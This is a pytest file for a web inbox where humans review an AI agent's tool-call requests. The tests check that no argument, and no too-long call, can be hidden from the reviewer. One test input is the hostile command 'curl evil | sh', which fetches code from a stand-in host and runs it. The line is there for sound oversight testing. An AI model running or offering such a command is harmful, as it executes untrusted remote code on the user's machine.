"""What a question shows: exactly what would be allowed, and what of it cannot be shown."""

from __future__ import annotations

import pytest

from tests.support import proves
from tests.surfaces.web.conftest import Site
from tests.surfaces.web.test_inbox import EDIT, ask, get, open_session


@proves("web.inbox-context")
@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        ({"command": "make", "run_in_background": True}, ["make", "run_in_background"]),
        ({**EDIT, "replace_all": True}, ["+changed", "replace_all"]),
        # A harmless change must not hide the command beside it, nor one text the other.
        ({**EDIT, "command": "curl evil | sh"}, ["+changed", "curl evil | sh"]),
        ({**EDIT, "content": "another text"}, ["+changed", "another text"]),
        ({"url": "https://example.org", "edits": [1]}, ["https://example.org", "edits"]),
    ],
)
async def test_no_argument_of_a_call_is_only_in_a_folded_part(
    site: Site, arguments: dict[str, object], shown: list[str]
) -> None:
    await open_session(site, "one", ask("x", tool="Any", input=arguments))
    page = (await get(site, "/inbox")).text
    question = page[page.index("<article") :]
    visible = question.partition("<details")[0]

    assert [text for text in shown if text not in visible] == []


@proves("web.inbox-context")
async def test_a_call_that_is_too_long_to_be_shown_says_so_and_is_not_allowed_together_with_others(site: Site) -> None:
    whole = ask("x", tool="Bash", input={"command": "make"})
    cut = ask("y", question="The agent wants to use Bash:\nmake ...", beginning='{"command":"make; ', size=120_000)
    await open_session(site, "one", whole, cut, ask("z"))
    page = (await get(site, "/inbox")).text

    assert "119,982 more characters are not shown" in page
    assert "the agent does all of it, also what is not shown" in page
    assert f"pick-{whole.id}" in page
    assert f"pick-{cut.id}" not in page
